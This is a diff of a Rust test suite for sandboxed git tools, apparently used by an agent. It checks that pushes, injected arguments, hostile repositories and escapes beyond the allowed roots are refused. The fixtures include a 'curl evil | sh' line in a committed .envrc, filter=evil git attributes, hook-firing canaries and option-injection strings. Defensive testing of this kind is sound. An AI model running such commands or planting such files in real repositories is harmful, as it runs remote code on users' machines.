@@ -4,11 +4,10 @@
 //! ever ran them, argument injection, and `.git` files pointing outside the roots. Refusals are
 //! paired with a positive control, and the canary folder outside the roots is checked throughout.
 
-use super::common::{Client, Fixture, text_of};
+use super::common::{Client, Fixture, host_git, host_git_output, text_of};
 use serde_json::{Value, json};
 use std::os::unix::fs::PermissionsExt;
 use std::path::{Path, PathBuf};
-use std::process::Output;
 
 /// The ten git tools in their published order.
 const GIT_TOOLS: [&str; 10] = [
@@ -62,38 +61,6 @@ async fn start() -> (Fixture, Client) {
     (fx, c)
 }
 
-/// Runs the `git` CLI in `dir` with a fixed identity and `HOME`, so no machine config counts.
-fn git_raw(home: &Path, dir: &Path, args: &[&str]) -> Output {
-    std::process::Command::new("git")
-        .args(["-c", "safe.directory=*"])
-        .arg("-C")
-        .arg(dir)
-        .args(args)
-        .env("HOME", home)
-        .env("GIT_CONFIG_NOSYSTEM", "1")
-        .env("GIT_AUTHOR_NAME", "Fixture")
-        .env("GIT_AUTHOR_EMAIL", "fixture@example.com")
-        .env("GIT_COMMITTER_NAME", "Fixture")
-        .env("GIT_COMMITTER_EMAIL", "fixture@example.com")
-        .env_remove("GIT_DIR")
-        .env_remove("GIT_WORK_TREE")
-        .env_remove("GIT_INDEX_FILE")
-        .output()
-        .unwrap()
-}
-
-/// Runs the `git` CLI, requires success and returns its trimmed stdout.
-fn git(home: &Path, dir: &Path, args: &[&str]) -> String {
-    let out = git_raw(home, dir, args);
-    assert!(
-        out.status.success(),
-        "git {args:?} in {}: {}",
-        dir.display(),
-        String::from_utf8_lossy(&out.stderr)
-    );
-    String::from_utf8(out.stdout).unwrap().trim_end().to_string()
-}
-
 fn write(path: &Path, content: &str) {
     std::fs::create_dir_all(path.parent().unwrap()).unwrap();
     std::fs::write(path, content).unwrap();
@@ -114,20 +81,20 @@ fn numbered(changed: usize) -> String {
 /// the commit id.
 fn init_repo(home: &Path, dir: &Path) -> String {
     std::fs::create_dir_all(dir).unwrap();
-    git(home, dir, &["init", "-q", "-b", "main"]);
+    host_git(home, dir, &["init", "-q", "-b", "main"]);
     write(&dir.join("a.txt"), &numbered(0));
     write(&dir.join("b.txt"), "bee\n");
-    git(home, dir, &["add", "-A"]);
-    git(home, dir, &["commit", "-q", "-m", "first"]);
-    git(home, dir, &["rev-parse", "HEAD"])
+    host_git(home, dir, &["add", "-A"]);
+    host_git(home, dir, &["commit", "-q", "-m", "first"]);
+    host_git(home, dir, &["rev-parse", "HEAD"])
 }
 
 /// Writes `rel` in `dir`, commits everything with `msg` through the CLI, returns the id.
 fn cli_commit(home: &Path, dir: &Path, rel: &str, content: &str, msg: &str) -> String {
     write(&dir.join(rel), content);
-    git(home, dir, &["add", "-A"]);
-    git(home, dir, &["commit", "-q", "-m", msg]);
-    git(home, dir, &["rev-parse", "HEAD"])
+    host_git(home, dir, &["add", "-A"]);
+    host_git(home, dir, &["commit", "-q", "-m", msg]);
+    host_git(home, dir, &["rev-parse", "HEAD"])
 }
 
 /// The ids of a list of commits in a tool's output.
@@ -142,7 +109,7 @@ fn paths(v: &Value) -> Vec<String> {
 
 /// What a ref points at in a (bare) repository, `None` if it does not exist.
 fn ref_of(home: &Path, gitdir: &Path, refname: &str) -> Option<String> {
-    let out = git_raw(home, gitdir, &["rev-parse", "--verify", "-q", refname]);
+    let out = host_git_output(home, gitdir, &["rev-parse", "--verify", "-q", refname]);
     out.status.success().then(|| String::from_utf8(out.stdout).unwrap().trim().to_string())
 }
 
@@ -185,7 +152,7 @@ async fn status_diff_log_and_branches_report_real_repositories() {
     let c1 = init_repo(h, &repo);
     let c2 = cli_commit(h, &repo, "a.txt", &format!("{}line21\n", numbered(0)), "second");
     let c3 = cli_commit(h, &repo, "docs/d.txt", "doc\n", "third");
-    git(h, &repo, &["branch", "old", &c1]);
+    host_git(h, &repo, &["branch", "old", &c1]);
 
     // Clean status.
     let s = c.ok("git_status", json!({"repo": "repo"})).await;
@@ -200,7 +167,7 @@ async fn status_diff_log_and_branches_report_real_repositories() {
 
     // One staged, two unstaged, one untracked file and one untracked folder.
     write(&repo.join("s.txt"), "staged\n");
-    git(h, &repo, &["add", "s.txt"]);
+    host_git(h, &repo, &["add", "s.txt"]);
     write(&repo.join("a.txt"), &format!("{}line21\n", numbered(10)));
     write(&repo.join("b.txt"), "bee\nbuzz\n");
     write(&repo.join("u.txt"), "untracked\n");
@@ -292,17 +259,17 @@ async fn status_diff_log_and_branches_report_real_repositories() {
     assert_eq!(b["truncated"], false);
 
     // Nothing above changed the repository.
-    assert_eq!(git(h, &repo, &["rev-parse", "HEAD"]), c3);
+    assert_eq!(host_git(h, &repo, &["rev-parse", "HEAD"]), c3);
     assert_eq!(read(&repo.join("a.txt")), format!("{}line21\n", numbered(10)));
 
     // A conflicted merge shows in `conflicted`, and commit refuses while it is in progress.
     let conf = fx.root.join("conf");
     init_repo(h, &conf);
-    git(h, &conf, &["switch", "-q", "-c", "other"]);
+    host_git(h, &conf, &["switch", "-q", "-c", "other"]);
     cli_commit(h, &conf, "a.txt", &numbered(5), "other side");
-    git(h, &conf, &["switch", "-q", "main"]);
+    host_git(h, &conf, &["switch", "-q", "main"]);
     cli_commit(h, &conf, "a.txt", &numbered(6), "main side");
-    let merged = git_raw(h, &conf, &["merge", "-q", "other"]);
+    let merged = host_git_output(h, &conf, &["merge", "-q", "other"]);
     assert!(!merged.status.success(), "the fixture merge must conflict");
     let s = c.ok("git_status", json!({"repo": "conf"})).await;
     assert_eq!(s["conflicted"], json!([{"path": "a.txt", "status": "conflicted"}]), "{s}");
@@ -327,11 +294,11 @@ async fn branch_switch_and_commit_change_the_repository_as_asked() {
     // Branch with checkout (the default), then without.
     let b = c.ok("git_branch", json!({"repo": "repo", "name": "task/a"})).await;
     assert_eq!(b, json!({"name": "task/a", "commit": c1, "checked_out": true}));
-    assert_eq!(git(h, &repo, &["symbolic-ref", "--short", "HEAD"]), "task/a");
+    assert_eq!(host_git(h, &repo, &["symbolic-ref", "--short", "HEAD"]), "task/a");
     let b = c.ok("git_branch", json!({"repo": "repo", "name": "task/b", "checkout": false})).await;
     assert_eq!(b["checked_out"], false, "{b}");
-    assert_eq!(git(h, &repo, &["symbolic-ref", "--short", "HEAD"]), "task/a");
-    assert_eq!(git(h, &repo, &["rev-parse", "task/b"]), c1);
+    assert_eq!(host_git(h, &repo, &["symbolic-ref", "--short", "HEAD"]), "task/a");
+    assert_eq!(host_git(h, &repo, &["rev-parse", "task/b"]), c1);
     let e = c.err("git_branch", json!({"repo": "repo", "name": "task/b"})).await;
     assert!(e.contains("already exists"), "{e}");
     let b = c
@@ -349,13 +316,13 @@ async fn branch_switch_and_commit_change_the_repository_as_asked() {
     assert_eq!(out["branch"], "task/a");
     assert_eq!(out["files"], json!(["a.txt", "new/n.txt"]), "{out}");
     assert_eq!(out["skipped"], json!([]));
-    assert_eq!(git(h, &repo, &["rev-parse", "HEAD"]), all);
+    assert_eq!(host_git(h, &repo, &["rev-parse", "HEAD"]), all);
     assert_eq!(
-        git(h, &repo, &["log", "-1", "--format=%an <%ae>|%cn|%P"]),
+        host_git(h, &repo, &["log", "-1", "--format=%an <%ae>|%cn|%P"]),
         format!("Agent <agent@example.com>|Agent|{c1}")
     );
-    assert_eq!(git(h, &repo, &["show", "HEAD:new/n.txt"]), "new");
-    assert_eq!(git(h, &repo, &["status", "--porcelain"]), "");
+    assert_eq!(host_git(h, &repo, &["show", "HEAD:new/n.txt"]), "new");
+    assert_eq!(host_git(h, &repo, &["status", "--porcelain"]), "");
 
     // Commit only `paths`: the other change stays, unstaged, in the work tree.
     write(&repo.join("a.txt"), &numbered(4));
@@ -363,9 +330,9 @@ async fn branch_switch_and_commit_change_the_repository_as_asked() {
     let out =
         c.ok("git_commit", json!({"repo": "repo", "message": "only a", "paths": ["a.txt"]})).await;
     assert_eq!(out["files"], json!(["a.txt"]), "{out}");
-    assert_eq!(git(h, &repo, &["show", "--name-only", "--format=", "HEAD"]), "a.txt");
-    assert_eq!(git(h, &repo, &["show", "HEAD:a.txt"]), numbered(4).trim_end());
-    assert_eq!(git(h, &repo, &["status", "--porcelain"]), " M b.txt");
+    assert_eq!(host_git(h, &repo, &["show", "--name-only", "--format=", "HEAD"]), "a.txt");
+    assert_eq!(host_git(h, &repo, &["show", "HEAD:a.txt"]), numbered(4).trim_end());
+    assert_eq!(host_git(h, &repo, &["status", "--porcelain"]), " M b.txt");
     assert_eq!(read(&repo.join("b.txt")), "bee\nchanged\n");
     let e =
         c.err("git_commit", json!({"repo": "repo", "message": "again", "paths": ["a.txt"]})).await;
@@ -384,29 +351,29 @@ async fn branch_switch_and_commit_change_the_repository_as_asked() {
     let out = c.ok("git_commit", json!({"repo": "repo", "message": "b and not the secret"})).await;
     assert_eq!(out["files"], json!(["b.txt"]), "{out}");
     assert_eq!(out["skipped"], json!([".env"]), "{out}");
-    assert!(!git(h, &repo, &["ls-tree", "-r", "--name-only", "HEAD"]).contains(".env"));
+    assert!(!host_git(h, &repo, &["ls-tree", "-r", "--name-only", "HEAD"]).contains(".env"));
     std::fs::remove_file(repo.join(".env")).unwrap();
-    let tip_a = git(h, &repo, &["rev-parse", "HEAD"]);
+    let tip_a = host_git(h, &repo, &["rev-parse", "HEAD"]);
 
     // Switch refuses to overwrite a local change to a file that differs on the target...
     write(&repo.join("a.txt"), "my unsaved work\n");
     let e = c.err("git_switch", json!({"repo": "repo", "branch": "main"})).await;
     assert!(e.contains("would overwrite local changes") && e.contains("a.txt"), "{e}");
     assert_eq!(read(&repo.join("a.txt")), "my unsaved work\n", "the local change survives");
-    assert_eq!(git(h, &repo, &["symbolic-ref", "--short", "HEAD"]), "task/a");
-    assert_eq!(git(h, &repo, &["rev-parse", "HEAD"]), tip_a);
+    assert_eq!(host_git(h, &repo, &["symbolic-ref", "--short", "HEAD"]), "task/a");
+    assert_eq!(host_git(h, &repo, &["rev-parse", "HEAD"]), tip_a);
     // ...and git_branch with checkout refuses the same way, leaving no branch behind.
     let e = c.err("git_branch", json!({"repo": "repo", "name": "task/d", "start": "main"})).await;
     assert!(e.contains("would overwrite local changes"), "{e}");
     assert!(ref_of(h, &repo, "refs/heads/task/d").is_none(), "no half-made branch");
     assert_eq!(read(&repo.join("a.txt")), "my unsaved work\n");
     // ...while a clean work tree switches.
-    git(h, &repo, &["checkout", "--", "a.txt"]);
+    host_git(h, &repo, &["checkout", "--", "a.txt"]);
     let s = c.ok("git_switch", json!({"repo": "repo", "branch": "main"})).await;
     assert_eq!(s, json!({"branch": "main", "commit": c1, "already": false}));
     assert_eq!(read(&repo.join("a.txt")), numbered(0));
     assert!(!repo.join("new/n.txt").exists());
-    assert_eq!(git(h, &repo, &["symbolic-ref", "--short", "HEAD"]), "main");
+    assert_eq!(host_git(h, &repo, &["symbolic-ref", "--short", "HEAD"]), "main");
     let s = c.ok("git_switch", json!({"repo": "repo", "branch": "main"})).await;
     assert_eq!(s["already"], true);
     let e = c.err("git_switch", json!({"repo": "repo", "branch": "nosuch"})).await;
@@ -431,8 +398,8 @@ async fn branch_switch_and_commit_change_the_repository_as_asked() {
         let e = c.err(tool, args).await;
         assert!(e.contains("read-only root"), "{tool}: {e}");
     }
-    assert_eq!(git(h, &ro, &["rev-parse", "HEAD"]), ro_head);
-    assert_eq!(git(h, &ro, &["for-each-ref", "--format=%(refname)"]), "refs/heads/main");
+    assert_eq!(host_git(h, &ro, &["rev-parse", "HEAD"]), ro_head);
+    assert_eq!(host_git(h, &ro, &["for-each-ref", "--format=%(refname)"]), "refs/heads/main");
     assert!(!fx.root.join("wt-ro").exists());
     c.stop().await;
     fx.assert_canary();
@@ -444,10 +411,10 @@ async fn branch_commits_and_worktrees() {
     let h = &fx.home;
     let repo = fx.root.join("repo");
     let c1 = init_repo(h, &repo);
-    git(h, &repo, &["switch", "-q", "-c", "task/x"]);
+    host_git(h, &repo, &["switch", "-q", "-c", "task/x"]);
     let x1 = cli_commit(h, &repo, "x1.txt", "1\n", "x one");
     let x2 = cli_commit(h, &repo, "x2.txt", "2\n", "x two");
-    git(h, &repo, &["switch", "-q", "main"]);
+    host_git(h, &repo, &["switch", "-q", "main"]);
     let m2 = cli_commit(h, &repo, "m.txt", "m\n", "main two");
 
     // Against an explicit base and against the default branch (main).
@@ -484,12 +451,12 @@ async fn branch_commits_and_worktrees() {
         w,
         json!({"path": wt.to_str().unwrap(), "branch": "task/new", "created_branch": true})
     );
-    assert_eq!(git(h, &repo, &["rev-parse", "task/new"]), m2);
-    assert_eq!(git(h, &wt, &["symbolic-ref", "--short", "HEAD"]), "task/new");
+    assert_eq!(host_git(h, &repo, &["rev-parse", "task/new"]), m2);
+    assert_eq!(host_git(h, &wt, &["symbolic-ref", "--short", "HEAD"]), "task/new");
     assert_eq!(read(&wt.join("m.txt")), "m\n");
-    assert_eq!(git(h, &wt, &["status", "--porcelain"]), "");
+    assert_eq!(host_git(h, &wt, &["status", "--porcelain"]), "");
     assert!(
-        git(h, &repo, &["worktree", "list", "--porcelain"])
+        host_git(h, &repo, &["worktree", "list", "--porcelain"])
             .contains(&format!("worktree {}", wt.display()))
     );
     // The worktree is itself a repository the tools can use.
@@ -500,7 +467,7 @@ async fn branch_commits_and_worktrees() {
     let w =
         c.ok("git_worktree_add", json!({"repo": "repo", "path": wt2, "branch": "task/x"})).await;
     assert_eq!(w["created_branch"], false, "{w}");
-    assert_eq!(git(h, &wt2, &["rev-parse", "HEAD"]), x2);
+    assert_eq!(host_git(h, &wt2, &["rev-parse", "HEAD"]), x2);
     assert!(wt2.join("x1.txt").exists());
     // A branch checked out elsewhere, and an existing folder, are refused.
     let e =
@@ -511,7 +478,7 @@ async fn branch_commits_and_worktrees() {
     assert!(e.contains("already exists"), "{e}");
     assert!(ref_of(h, &repo, "refs/heads/task/y").is_none());
 
-    let refs_before = git(h, &repo, &["for-each-ref"]);
+    let refs_before = host_git(h, &repo, &["for-each-ref"]);
     // Refused into the read-only root...
     let e = c
         .err(
@@ -544,10 +511,10 @@ async fn branch_commits_and_worktrees() {
         .await;
     assert!(e.contains("outside every root"), "{e}");
     assert!(!Path::new("/tmp/hands-wt-outside").exists());
-    assert_eq!(git(h, &repo, &["for-each-ref"]), refs_before, "no branch made by a refusal");
+    assert_eq!(host_git(h, &repo, &["for-each-ref"]), refs_before, "no branch made by a refusal");
     // Positive control after the refusals.
     c.ok("git_worktree_add", json!({"repo": "repo", "path": "wt4", "branch": "task/ok"})).await;
-    assert_eq!(git(h, &repo, &["rev-parse", "task/ok"]), m2);
+    assert_eq!(host_git(h, &repo, &["rev-parse", "task/ok"]), m2);
     assert_ne!(c1, m2);
     c.stop().await;
     fx.assert_canary();
@@ -560,9 +527,9 @@ async fn push_to_a_local_bare_repository_follows_the_policy() {
     let repo = fx.root.join("repo");
     let remote = fx.root.join("remote.git");
     init_repo(h, &repo);
-    git(h, &fx.root, &["init", "-q", "--bare", "-b", "main", remote.to_str().unwrap()]);
-    git(h, &repo, &["remote", "add", "origin", remote.to_str().unwrap()]);
-    git(h, &repo, &["push", "-q", "origin", "main"]);
+    host_git(h, &fx.root, &["init", "-q", "--bare", "-b", "main", remote.to_str().unwrap()]);
+    host_git(h, &repo, &["remote", "add", "origin", remote.to_str().unwrap()]);
+    host_git(h, &repo, &["push", "-q", "origin", "main"]);
     let remote_main = ref_of(h, &remote, "refs/heads/main").unwrap();
 
     c.ok("git_branch", json!({"repo": "repo", "name": "task/x"})).await;
@@ -602,10 +569,10 @@ async fn push_to_a_local_bare_repository_follows_the_policy() {
     }
 
     // `main` (and any branch outside task/*) is refused, even when it is ahead.
-    git(h, &repo, &["branch", "-f", "main", "task/x"]);
+    host_git(h, &repo, &["branch", "-f", "main", "task/x"]);
     let e = c.err("git_push", json!({"repo": "repo", "branch": "main"})).await;
     assert!(e.contains("does not match the push patterns task/*"), "{e}");
-    git(h, &repo, &["branch", "feature/y"]);
+    host_git(h, &repo, &["branch", "feature/y"]);
     let e = c.err("git_push", json!({"repo": "repo", "branch": "feature/y"})).await;
     assert!(e.contains("does not match the push patterns"), "{e}");
     let e = c.err("git_push", json!({"repo": "repo", "branch": "nosuch/task"})).await;
@@ -629,7 +596,7 @@ async fn push_to_a_local_bare_repository_follows_the_policy() {
     assert_eq!(ref_of(h, &remote, "refs/heads/task/x").unwrap(), x1);
     assert_eq!(
         ref_of(h, &remote, "refs/heads/task/x").unwrap(),
-        git(h, &repo, &["rev-parse", "task/x"])
+        host_git(h, &repo, &["rev-parse", "task/x"])
     );
     let p = c.ok("git_push", args.clone()).await;
     assert_eq!(p["up_to_date"], true, "{p}");
@@ -646,10 +613,10 @@ async fn push_to_a_local_bare_repository_follows_the_policy() {
 
     // Non-fast-forward: someone else pushes to task/x; a diverging local commit is refused.
     let other = fx.root.join("other");
-    git(h, &fx.root, &["clone", "-q", remote.to_str().unwrap(), other.to_str().unwrap()]);
-    git(h, &other, &["switch", "-q", "task/x"]);
+    host_git(h, &fx.root, &["clone", "-q", remote.to_str().unwrap(), other.to_str().unwrap()]);
+    host_git(h, &other, &["switch", "-q", "task/x"]);
     let theirs = cli_commit(h, &other, "theirs.txt", "theirs\n", "theirs");
-    git(h, &other, &["push", "-q", "origin", "task/x"]);
+    host_git(h, &other, &["push", "-q", "origin", "task/x"]);
     assert_eq!(ref_of(h, &remote, "refs/heads/task/x").unwrap(), theirs);
     write(&repo.join("mine.txt"), "mine\n");
     c.ok("git_commit", json!({"repo": "repo", "message": "mine"})).await;
@@ -657,42 +624,42 @@ async fn push_to_a_local_bare_repository_follows_the_policy() {
     assert!(e.contains("non-fast-forward") && e.contains("never force-pushes"), "{e}");
     assert_eq!(ref_of(h, &remote, "refs/heads/task/x").unwrap(), theirs, "remote unchanged");
     // Behind only (the local branch lacks the remote's commit) is refused too.
-    git(h, &repo, &["branch", "task/x-deep", &x2]);
-    git(h, &other, &["switch", "-q", "-c", "task/x-deep"]);
-    git(h, &other, &["push", "-q", "origin", "task/x-deep"]);
+    host_git(h, &repo, &["branch", "task/x-deep", &x2]);
+    host_git(h, &other, &["switch", "-q", "-c", "task/x-deep"]);
+    host_git(h, &other, &["push", "-q", "origin", "task/x-deep"]);
     let e = c.err("git_push", json!({"repo": "repo", "branch": "task/x-deep"})).await;
     assert!(e.contains("non-fast-forward"), "{e}");
     assert_eq!(ref_of(h, &remote, "refs/heads/task/x-deep").unwrap(), theirs);
 
     // A remote in the read-only root, or outside the roots, is refused.
     let ro_remote = fx.root.join("ro/remote.git");
-    git(h, &fx.root, &["init", "-q", "--bare", ro_remote.to_str().unwrap()]);
-    git(h, &repo, &["remote", "set-url", "origin", ro_remote.to_str().unwrap()]);
+    host_git(h, &fx.root, &["init", "-q", "--bare", ro_remote.to_str().unwrap()]);
+    host_git(h, &repo, &["remote", "set-url", "origin", ro_remote.to_str().unwrap()]);
     c.ok("git_branch", json!({"repo": "repo", "name": "task/z", "checkout": false})).await;
     let e = c.err("git_push", json!({"repo": "repo", "branch": "task/z"})).await;
     assert!(e.contains("read-only root"), "{e}");
     assert!(ref_of(h, &ro_remote, "refs/heads/task/z").is_none());
     let outside_remote = fx.outside.join("remote.git");
-    git(h, &repo, &["remote", "set-url", "origin", outside_remote.to_str().unwrap()]);
+    host_git(h, &repo, &["remote", "set-url", "origin", outside_remote.to_str().unwrap()]);
     let e = c.err("git_push", json!({"repo": "repo", "branch": "task/z"})).await;
     assert!(e.contains("outside the roots") && e.contains("push.urls"), "{e}");
     assert!(!e.contains("writable root"), "the hint must not offer the remote as a root: {e}");
     for url in ["https://example.com/r.git", "git@example.com:r.git", "../remote.git"] {
-        git(h, &repo, &["remote", "set-url", "origin", url]);
+        host_git(h, &repo, &["remote", "set-url", "origin", url]);
         let e = c.err("git_push", json!({"repo": "repo", "branch": "task/z"})).await;
         assert!(e.contains(url), "{url}: {e}");
     }
     // A non-bare remote with the branch checked out is refused.
     let nonbare = fx.root.join("nonbare");
     init_repo(h, &nonbare);
-    git(h, &nonbare, &["switch", "-q", "-c", "task/z"]);
-    let nonbare_tip = git(h, &nonbare, &["rev-parse", "HEAD"]);
-    git(h, &repo, &["remote", "set-url", "origin", nonbare.to_str().unwrap()]);
+    host_git(h, &nonbare, &["switch", "-q", "-c", "task/z"]);
+    let nonbare_tip = host_git(h, &nonbare, &["rev-parse", "HEAD"]);
+    host_git(h, &repo, &["remote", "set-url", "origin", nonbare.to_str().unwrap()]);
     let e = c.err("git_push", json!({"repo": "repo", "branch": "task/z"})).await;
     assert!(e.contains("checked out in its work tree"), "{e}");
-    assert_eq!(git(h, &nonbare, &["rev-parse", "HEAD"]), nonbare_tip);
+    assert_eq!(host_git(h, &nonbare, &["rev-parse", "HEAD"]), nonbare_tip);
     // Control: back to the writable bare remote, as a file:// URL.
-    git(h, &repo, &["remote", "set-url", "origin", &format!("file://{}", remote.display())]);
+    host_git(h, &repo, &["remote", "set-url", "origin", &format!("file://{}", remote.display())]);
     let p = c.ok("git_push", json!({"repo": "repo", "branch": "task/z"})).await;
     assert_eq!(ref_of(h, &remote, "refs/heads/task/z").unwrap(), p["new"].as_str().unwrap());
     c.stop().await;
@@ -705,8 +672,8 @@ fn make_hostile(home: &Path, repo: &Path, remote: &Path, hooks: &Path, canaries:
     init_repo(home, repo);
     write(&repo.join(".gitattributes"), "* filter=evil diff=evil merge=evil\n");
     cli_commit(home, repo, "c.txt", "c\n", "attributes");
-    git(home, remote.parent().unwrap(), &["init", "-q", "--bare", remote.to_str().unwrap()]);
-    git(home, repo, &["remote", "add", "origin", remote.to_str().unwrap()]);
+    host_git(home, remote.parent().unwrap(), &["init", "-q", "--bare", remote.to_str().unwrap()]);
+    host_git(home, repo, &["remote", "add", "origin", remote.to_str().unwrap()]);
     // From here on the repository is never touched by the CLI again (it would fire).
     let t = |name: &str| format!("touch {}/{name}", canaries.display());
     let config = format!(
@@ -884,10 +851,10 @@ async fn a_hostile_repository_cannot_make_the_tools_run_anything() {
         names.sort();
         names
     };
-    let _ = git_raw(&home, &copy, &["commit", "--allow-empty", "-m", "x"]);
+    let _ = host_git_output(&home, &copy, &["commit", "--allow-empty", "-m", "x"]);
     assert!(!fired().is_empty(), "command-line git should have fired the hostile fixture");
     // With the filter process and fsmonitor out of the way, the hooks fire too.
-    let _ = git_raw(
+    let _ = host_git_output(
         &home,
         &copy,
         &[
@@ -970,12 +937,12 @@ async fn option_and_ref_syntax_injection_is_refused() {
     let repo = fx.root.join("repo");
     let remote = fx.root.join("remote.git");
     init_repo(h, &repo);
-    git(h, &fx.root, &["init", "-q", "--bare", remote.to_str().unwrap()]);
-    git(h, &repo, &["remote", "add", "origin", remote.to_str().unwrap()]);
-    git(h, &repo, &["branch", "task/a"]);
-    let refs = git(h, &repo, &["for-each-ref"]);
-    let head = git(h, &repo, &["symbolic-ref", "HEAD"]);
-    let remote_refs = git(h, &remote, &["for-each-ref"]);
+    host_git(h, &fx.root, &["init", "-q", "--bare", remote.to_str().unwrap()]);
+    host_git(h, &repo, &["remote", "add", "origin", remote.to_str().unwrap()]);
+    host_git(h, &repo, &["branch", "task/a"]);
+    let refs = host_git(h, &repo, &["for-each-ref"]);
+    let head = host_git(h, &repo, &["symbolic-ref", "HEAD"]);
+    let remote_refs = host_git(h, &remote, &["for-each-ref"]);
 
     let bad = ["-f", "--output=x", "a..b", "refs/heads/../x", "HEAD@{1}", "a\0b", "task/a\0", "--"];
     for name in bad {
@@ -993,10 +960,10 @@ async fn option_and_ref_syntax_injection_is_refused() {
             assert!(e.contains("argument `") && e.contains("is refused"), "{tool} {args}: {e}");
         }
     }
-    assert_eq!(git(h, &repo, &["for-each-ref"]), refs, "refs unchanged");
-    assert_eq!(git(h, &repo, &["symbolic-ref", "HEAD"]), head);
-    assert_eq!(git(h, &repo, &["status", "--porcelain"]), "");
-    assert_eq!(git(h, &remote, &["for-each-ref"]), remote_refs, "remote unchanged");
+    assert_eq!(host_git(h, &repo, &["for-each-ref"]), refs, "refs unchanged");
+    assert_eq!(host_git(h, &repo, &["symbolic-ref", "HEAD"]), head);
+    assert_eq!(host_git(h, &repo, &["status", "--porcelain"]), "");
+    assert_eq!(host_git(h, &remote, &["for-each-ref"]), remote_refs, "remote unchanged");
     let mut xs = Vec::new();
     files_named_x(&fx.root, &mut xs);
     assert!(xs.is_empty(), "{xs:?}");
@@ -1030,10 +997,10 @@ async fn a_dot_git_file_pointing_outside_the_roots_is_refused() {
     let real = sep.join("real.git");
     let evil = fx.root.join("evil");
     std::fs::create_dir_all(&evil).unwrap();
-    git(h, &evil, &["init", "-q", "-b", "main", "--separate-git-dir", real.to_str().unwrap()]);
+    host_git(h, &evil, &["init", "-q", "-b", "main", "--separate-git-dir", real.to_str().unwrap()]);
     cli_commit(h, &evil, "a.txt", "a\n", "first");
     assert!(read(&evil.join(".git")).starts_with("gitdir:"));
-    let real_refs = git(h, &real, &["for-each-ref"]);
+    let real_refs = host_git(h, &real, &["for-each-ref"]);
     write(&evil.join("b.txt"), "b\n");
     // Pointing at a missing path in the canary folder, absolute and relative.
     write(&fx.root.join("evil2/.git"), &format!("gitdir: {}/missing.git\n", fx.outside.display()));
@@ -1046,7 +1013,11 @@ async fn a_dot_git_file_pointing_outside_the_roots_is_refused() {
     let good = fx.root.join("good");
     std::fs::create_dir_all(&good).unwrap();
     let good_dir = fx.root.join("good.gitdir");
-    git(h, &good, &["init", "-q", "-b", "main", "--separate-git-dir", good_dir.to_str().unwrap()]);
+    host_git(
+        h,
+        &good,
+        &["init", "-q", "-b", "main", "--separate-git-dir", good_dir.to_str().unwrap()],
+    );
     cli_commit(h, &good, "a.txt", "a\n", "first");
     write(&good.join("b.txt"), "b\n");
 
@@ -1075,17 +1046,21 @@ async fn a_dot_git_file_pointing_outside_the_roots_is_refused() {
         c.ok(tool, with("good")).await;
         fx.assert_canary();
     }
-    assert_eq!(git(h, &real, &["for-each-ref"]), real_refs, "the outside git dir is unchanged");
-    assert_eq!(git(h, &evil, &["status", "--porcelain"]), "?? b.txt");
-    assert_eq!(git(h, &good, &["log", "-1", "--format=%s"]), "x", "the control committed");
+    assert_eq!(
+        host_git(h, &real, &["for-each-ref"]),
+        real_refs,
+        "the outside git dir is unchanged"
+    );
+    assert_eq!(host_git(h, &evil, &["status", "--porcelain"]), "?? b.txt");
+    assert_eq!(host_git(h, &good, &["log", "-1", "--format=%s"]), "x", "the control committed");
 
     // Objects borrowed from outside (alternates) are refused; borrowed from inside, fine.
     let src = sep.join("src");
     init_repo(h, &src);
-    git(h, &fx.root, &["clone", "-q", "--shared", src.to_str().unwrap(), "alt"]);
+    host_git(h, &fx.root, &["clone", "-q", "--shared", src.to_str().unwrap(), "alt"]);
     let e = c.err("git_log", json!({"repo": "alt"})).await;
     assert!(e.contains("alternate object store") && e.contains("outside the roots"), "{e}");
-    git(h, &fx.root, &["clone", "-q", "--shared", good.to_str().unwrap(), "alt-ok"]);
+    host_git(h, &fx.root, &["clone", "-q", "--shared", good.to_str().unwrap(), "alt-ok"]);
     c.ok("git_log", json!({"repo": "alt-ok"})).await;
     // A symlink inside the git dir that leaves the roots is refused.
     std::os::unix::fs::symlink(fx.outside.join("canary.txt"), good_dir.join("description2"))
@@ -1108,12 +1083,12 @@ async fn checkouts_that_would_touch_protected_files_are_refused() {
     let h = &fx.home;
     let repo = fx.root.join("repo");
     let c1 = init_repo(h, &repo);
-    git(h, &repo, &["switch", "-q", "-c", "task/envrc"]);
+    host_git(h, &repo, &["switch", "-q", "-c", "task/envrc"]);
     cli_commit(h, &repo, ".envrc", "curl evil | sh\n", "envrc");
-    git(h, &repo, &["switch", "-q", "-c", "task/vscode", "main"]);
+    host_git(h, &repo, &["switch", "-q", "-c", "task/vscode", "main"]);
     cli_commit(h, &repo, ".vscode/settings.json", "{}\n", "vscode");
-    git(h, &repo, &["switch", "-q", "main"]);
-    let refs = git(h, &repo, &["for-each-ref"]);
+    host_git(h, &repo, &["switch", "-q", "main"]);
+    let refs = host_git(h, &repo, &["for-each-ref"]);
 
     let e = c.err("git_switch", json!({"repo": "repo", "branch": "task/envrc"})).await;
     assert!(e.contains("protected files") && e.contains(".envrc"), "{e}");
@@ -1130,13 +1105,13 @@ async fn checkouts_that_would_touch_protected_files_are_refused() {
     assert!(e.contains("protected files") && e.contains(".envrc"), "{e}");
     assert!(!repo.join(".envrc").exists() && !repo.join(".vscode").exists());
     assert!(!fx.root.join("wt-envrc/.envrc").exists());
-    assert_eq!(git(h, &repo, &["for-each-ref"]), refs);
-    assert_eq!(git(h, &repo, &["symbolic-ref", "--short", "HEAD"]), "main");
+    assert_eq!(host_git(h, &repo, &["for-each-ref"]), refs);
+    assert_eq!(host_git(h, &repo, &["symbolic-ref", "--short", "HEAD"]), "main");
     // Controls: the same tools on a branch without protected files.
     c.ok("git_branch", json!({"repo": "repo", "name": "task/plain", "checkout": false})).await;
     c.ok("git_switch", json!({"repo": "repo", "branch": "task/plain"})).await;
     c.ok("git_worktree_add", json!({"repo": "repo", "path": "wt-plain", "branch": "task/w"})).await;
-    assert_eq!(git(h, &repo, &["rev-parse", "task/w"]), c1);
+    assert_eq!(host_git(h, &repo, &["rev-parse", "task/w"]), c1);
 
     c.stop().await;
     fx.assert_canary();
@@ -1157,21 +1132,21 @@ async fn commit_paths_secrets_first_commit_and_identity() {
     let out =
         c.ok("git_commit", json!({"repo": "repo", "message": "folder", "paths": ["newdir"]})).await;
     assert_eq!(out["files"], json!(["newdir/x.txt", "newdir/y/z.txt"]), "{out}");
-    assert_eq!(git(h, &repo, &["status", "--porcelain"]), "?? other.txt");
+    assert_eq!(host_git(h, &repo, &["status", "--porcelain"]), "?? other.txt");
     std::fs::remove_file(repo.join("b.txt")).unwrap();
     let out =
